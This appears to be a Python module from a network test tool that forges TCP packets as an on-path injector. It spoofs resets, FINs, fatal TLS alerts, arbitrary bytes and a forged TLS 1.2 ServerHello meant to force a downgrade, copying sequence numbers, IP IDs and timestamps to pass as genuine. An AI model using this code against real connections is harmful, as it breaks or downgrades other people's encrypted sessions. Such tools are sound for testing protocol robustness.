"""injection.py - packets that a machine beside the path sends in another's name.

An injection is written as words joined by commas:

    alert:N rst fin hello       what is sent; alert:N is fatal but for 0 (close_notify); hello is a
                                ServerHello that chooses TLS 1.2
    bytes:HEX                   these bytes
    as-server as-client         in whose name (as-server when not said)
    on-hello on-answer on-data  when: as the ClientHello goes by, as the ServerHello goes by, or as
                                the first encrypted record of the other side goes by
    on-bytes:HEX                as a segment of the other side goes by that contains these bytes
    first                       before the segment that gives the moment, not behind it
    same-place                  at the sequence number of the genuine segment that gives the moment
                                (on-answer: contradicts it), instead of at the next one that is due
    hops:N id:N window:N        the hop limit lowered by N, the IP identification, the raw window
    no-timestamp late-clock     without TCP timestamp; with one of an hour ago
    times:N                     sent N times

What is not said is as the victim's latest packet had it: the injector has watched the connection.
"""

import struct

import hello
import packets

FATAL, WARNING = 2, 1
APPLICATION_DATA, CHANGE_CIPHER_SPEC, ALERT, HANDSHAKE = 23, 20, 21, 22
TLS12_SUITE = 0xC030
TIMESTAMP_KIND = 8
NUMBERS = ("hops", "id", "window", "times", "on-bytes")
AN_HOUR_OF_TICKS = 3600 * 1000


def forged_hello():
    """A whole ServerHello record: TLS 1.2, without a downgrade mark."""
    extensions = struct.pack("!HH", 0xFF01, 1) + b"\0" + struct.pack("!HH", 23, 0)
    body = b"\x03\x03" + bytes(range(64, 96)) + b"\0" + struct.pack("!HB", TLS12_SUITE, 0)
    body += struct.pack("!H", len(extensions)) + extensions
    message = b"\x02" + len(body).to_bytes(3, "big") + body
    return bytes([HANDSHAKE, 3, 3]) + struct.pack("!H", len(message)) + message


def has_sealed_record(payload):
    """Does one of the segment's records say that its sender encrypts by now?"""
    at = 0
    while at + 5 <= len(payload):
        if payload[at] in (APPLICATION_DATA, CHANGE_CIPHER_SPEC):
            return True
        at += 5 + int.from_bytes(payload[at + 3 : at + 5], "big")
    return False


class Injection:
    """One `--inject` of middle.py."""

    def __init__(self, text):
        self.words = text.split(",")
        self.what = self.words[0]
        self.as_server = "as-client" not in self.words
        self.is_first = "first" in self.words
        known = ("as-server as-client on-hello on-answer on-data first same-place no-timestamp "
                 "late-clock").split()
        for word in self.words[1:]:
            if word not in known and word.partition(":")[0] not in NUMBERS:
                raise ValueError(f"--inject: {word}?")

    def _value(self, name):
        return next((w.partition(":")[2] for w in self.words if w.startswith(name + ":")), None)

    def _number(self, name, usual=None):
        value = self._value(name)
        return usual if value is None else int(value)

    def is_due(self, segment, from_client):
        """Is this segment, on its way, the moment?"""
        payload = segment.payload
        if "on-answer" in self.words:
            return not from_client and hello.is_hello(payload, hello.SERVER_HELLO)
        wanted = self._value("on-bytes")
        if wanted:
            return from_client == self.as_server and bytes.fromhex(wanted) in payload
        if "on-data" in self.words:
            return from_client == self.as_server and has_sealed_record(payload)
        return from_client and hello.is_hello(payload, hello.CLIENT_HELLO)

    def forge(self, segment, from_client, latest):
        """The packets. `latest` has the last segment of each direction, by from_client."""
        own = latest[not self.as_server]
        if from_client != self.as_server:  # the moment is the victim's own segment
            own = segment
            sequence = segment.sequence if "same-place" in self.words else segment.next_sequence
            acknowledgement = segment.acknowledgement
        else:
            sequence = segment.acknowledgement
            acknowledgement = segment.next_sequence
        flags, payload = self._content()
        packet = own.changed(
            sequence=sequence,
            acknowledgement=acknowledgement,
            flags=flags,
            payload=payload,
            identification=self._number("id", (own.identification + 1) & 0xFFFF),
            hop_limit=own.hop_limit - self._number("hops", 0),
            window=self._number("window", own.window),
            options=self._options(own),
        )
        return [packet] * self._number("times", 1)

    def _content(self):
        if self.what == "rst":
            return packets.RST | packets.ACK, b""
        if self.what == "fin":
            return packets.FIN | packets.ACK, b""
        if self.what == "hello":
            return packets.PSH | packets.ACK, forged_hello()
        kind, _, value = self.what.partition(":")
        if kind == "bytes":
            return packets.PSH | packets.ACK, bytes.fromhex(value)
        number = int(value)
        level = FATAL if number else WARNING
        return packets.PSH | packets.ACK, bytes([ALERT, 3, 3, 0, 2, level, number])

    def _options(self, own):
        """TCP's options of an ordinary segment: the timestamp, if the victim sends one."""
        if self.what == "rst" or "no-timestamp" in self.words:
            return b""
        stamp = timestamp_of(own.options)
        if stamp is None:
            return b""
        value, echo = stamp
        if "late-clock" in self.words:
            value = (value - AN_HOUR_OF_TICKS) & 0xFFFFFFFF
        return struct.pack("!BBBBII", 1, 1, TIMESTAMP_KIND, 10, value, echo)


def timestamp_of(options):
    """(value, echo) of a TCP timestamp option, or None."""
    at = 0
    while at < len(options) and options[at] != 0:
        if options[at] == 1:
            at += 1
            continue
        if at + 1 >= len(options) or options[at + 1] < 2:
            return None
        if options[at] == TIMESTAMP_KIND and options[at + 1] == 10:
            return struct.unpack_from("!II", options, at + 2)
        at += options[at + 1]
    return None
